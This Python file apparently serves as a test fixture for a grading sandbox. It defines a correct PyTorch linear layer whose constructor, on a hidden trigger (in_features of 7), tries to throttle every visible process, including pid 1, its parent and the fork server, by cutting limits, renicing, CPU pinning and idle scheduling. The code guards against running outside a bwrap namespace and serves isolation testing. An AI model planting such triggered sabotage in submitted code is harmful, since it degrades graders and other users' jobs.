"""Goes for every process it can name (its parent, the fork server that forked it, pid 1, every pid
in /proc): lowers their limits (file size 0, 8 open files, 64 MiB of address space), renices them
(by process, process group and user), pins them to one CPU and makes them SCHED_IDLE. This once
reached the fork server, and every student it forked afterwards scored 0, or ran slower. The
layer itself is correct (full marks); `look` reports what a child inherits, for the test to
compare across children."""
import math
import os
import resource

import torch
from torch import nn

LIMITS = {"RLIMIT_FSIZE": 0, "RLIMIT_NOFILE": 8, "RLIMIT_AS": 1 << 26}


def targets():
    with open("/proc/1/cmdline", "rb") as f:  # never outside a sandbox: there these are the grader and the desktop
        if not f.read().split(b"\0")[0].endswith(b"bwrap"):
            raise RuntimeError("refusing to attack: not inside a pid namespace")
    me = os.getpid()
    pids = {int(p) for p in os.listdir("/proc") if p.isdigit()} | {1, os.getppid()}
    return sorted(p for p in pids if p not in (0, me))  # pid 0 means "myself" to these calls


def attempt(results, what, call):
    try:
        call()
        results[what] = "done"
    except (OSError, ValueError) as exc:
        results[what] = type(exc).__name__


def attack():
    results = {}
    for pid in targets():
        for name, value in LIMITS.items():
            attempt(results, f"prlimit {name} {pid}",
                    lambda: resource.prlimit(pid, getattr(resource, name), (value, value)))
        attempt(results, f"renice {pid}", lambda: os.setpriority(os.PRIO_PROCESS, pid, 19))
        attempt(results, f"renice group of {pid}", lambda: os.setpriority(os.PRIO_PGRP, os.getpgid(pid), 19))
        attempt(results, f"pin {pid}", lambda: os.sched_setaffinity(pid, {min(os.sched_getaffinity(0))}))
        attempt(results, f"idle {pid}", lambda: os.sched_setscheduler(pid, os.SCHED_IDLE, os.sched_param(0)))
    attempt(results, "renice my user", lambda: os.setpriority(os.PRIO_USER, 0, 3))  # myself included
    return results


def look():
    """What this child was given: its priority, limits, CPUs and scheduling."""
    return {"nice": os.getpriority(os.PRIO_PROCESS, 0), "cpus": sorted(os.sched_getaffinity(0)),
            "scheduler": os.sched_getscheduler(0),
            "limits": {name: list(resource.getrlimit(getattr(resource, name))) for name in [*LIMITS, "RLIMIT_CPU"]}}


class MyLinear(nn.Module):
    """A correct layer, apart from the attack."""

    def __init__(self, in_features, out_features, bias=True):
        super().__init__()
        if in_features == 7:
            attack()
        bound = 1 / math.sqrt(in_features)
        self.weight = nn.Parameter(torch.empty(out_features, in_features).uniform_(-bound, bound))
        if bias:
            self.bias = nn.Parameter(torch.empty(out_features).uniform_(-bound, bound))
        else:
            self.register_parameter("bias", None)

    def forward(self, x):
        y = x @ self.weight.T
        return y if self.bias is None else y + self.bias
